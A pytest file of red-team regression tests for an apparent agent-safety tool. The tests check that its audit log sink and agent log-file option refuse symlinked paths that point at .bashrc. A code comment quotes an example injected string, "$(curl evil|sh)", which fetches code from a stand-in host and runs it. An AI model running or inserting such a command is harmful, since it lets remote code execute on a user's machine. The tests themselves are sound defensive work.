"""Red-team regressions for the audit sinks."""

from __future__ import annotations

from pathlib import Path

import pytest

from safehold.audit import JsonlFileSink, sink_from_config
from safehold.errors import ConfigError
from safehold.policy.config import AuditConfig


def test_issue_7_an_audit_log_path_that_is_a_symlink_is_refused(tmp_path: Path) -> None:
    # A symlink planted where the log should be would make the host append JSON lines, with
    # attacker-chosen strings such as "$(curl evil|sh)", to the file it points at.
    target = tmp_path / ".bashrc"
    target.write_text("# rc\n")
    link = tmp_path / "audit.jsonl"
    link.symlink_to(target)
    with pytest.raises(OSError):
        JsonlFileSink(link)
    with pytest.raises(ConfigError, match=r"audit\.path"):
        sink_from_config(AuditConfig(path=str(link)))
    assert target.read_text() == "# rc\n"
    real = tmp_path / "real.jsonl"
    with JsonlFileSink(real) as sink:
        sink.record({"verdict": "deny"})
    assert real.read_text() == '{"verdict":"deny"}\n'


def test_issue_7_the_agent_log_file_refuses_a_symlink(tmp_path: Path) -> None:
    import subprocess
    import sys

    target = tmp_path / ".bashrc"
    target.write_text("# rc\n")
    link = tmp_path / "agent.log"
    link.symlink_to(target)
    done = subprocess.run(
        [sys.executable, "-m", "safehold.cli", "acp", "--log-file", str(link)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode != 0
    assert "--log-file" in done.stderr and "Traceback" not in done.stderr
    assert target.read_text() == "# rc\n"
